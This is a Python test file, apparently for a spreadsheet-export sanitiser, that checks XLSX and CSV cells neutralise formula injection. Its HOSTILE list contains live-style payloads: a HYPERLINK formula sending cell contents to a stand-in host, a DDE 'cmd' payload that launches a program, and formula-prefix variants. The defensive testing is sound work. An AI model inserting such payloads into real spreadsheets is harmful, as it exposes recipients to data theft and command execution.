import csv
import io

from openpyxl import Workbook, load_workbook

from piiplan.reports.safe_cells import safe_row, safe_text, set_text

HOSTILE = ['=HYPERLINK("http://x?d="&A1,"bấm")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)", "\t=1", "＝1+1"]


def test_hostile_text_is_quoted_and_plain_text_unchanged():
    for text in HOSTILE:
        assert safe_text(text).startswith("'")
    assert safe_text("Báo cáo quý") == "Báo cáo quý"
    assert safe_text(-5) == -5 and safe_text(None) is None and safe_text(1.5) == 1.5


def test_xlsx_cells_are_never_formulas(tmp_path):
    wb = Workbook()
    ws = wb.active
    for i, text in enumerate(HOSTILE, start=1):
        set_text(ws.cell(row=i, column=1), text)
    path = tmp_path / "x.xlsx"
    wb.save(path)
    back = load_workbook(path).active
    for i, text in enumerate(HOSTILE, start=1):
        cell = back.cell(row=i, column=1)
        assert cell.data_type == "s"
        assert cell.value == "'" + text


def test_csv_rows_are_inert():
    buf = io.StringIO()
    csv.writer(buf).writerow(safe_row(HOSTILE + [3.5]))
    row = next(csv.reader(io.StringIO(buf.getvalue())))
    assert all(cell.startswith("'") for cell in row[:-1]) and row[-1] == "3.5"
